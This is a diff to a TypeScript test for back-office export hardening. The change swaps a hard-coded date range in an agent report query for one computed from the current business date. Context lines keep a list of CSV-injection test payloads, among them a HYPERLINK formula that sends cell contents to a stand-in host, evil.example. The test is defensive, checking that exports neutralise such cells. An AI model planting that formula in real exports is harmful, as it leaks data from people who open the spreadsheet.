@@ -16,6 +16,7 @@ import { companies, tickets, users } from '../platform/db/schema';
 import { makeFakeFrontend } from '../test/fake-dist';
 import { type Client, DEMO_PASSWORD, login, startServer, type TestServer } from '../test/harness';
 import { companyBody } from '../test/company-body';
+import { businessDateOf } from '../platform/business-time-zone';
 
 /** A value of each start a spreadsheet runs as a formula (OWASP "CSV injection"). */
 const PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Open")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
@@ -146,7 +147,10 @@ describe('back-office hardening (issue 35)', () => {
           format,
           bytes: (await download(as.admin!, `/api/admin/asset/export?format=${format}&dialect=pl`)).bytes,
         });
-        const agent = { report: 'agent', query: { agent_id: ids['agent@demo.test'], from: '2026-11-01', to: '2026-11-28' } };
+        // The demo agent's time is seeded today and yesterday: the four weeks up to today hold it, whatever the date.
+        const to = businessDateOf(new Date());
+        const from = businessDateOf(new Date(Date.now() - 27 * 86_400_000));
+        const agent = { report: 'agent', query: { agent_id: ids['agent@demo.test'], from, to } };
         files.push({ name: `agent report ${format}`, format, bytes: await job(format, agent) });
         files.push({ name: `daily report ${format}`, format, bytes: await job(format, { report: 'daily', query: { day: '2026-11-27' } }) });
       }
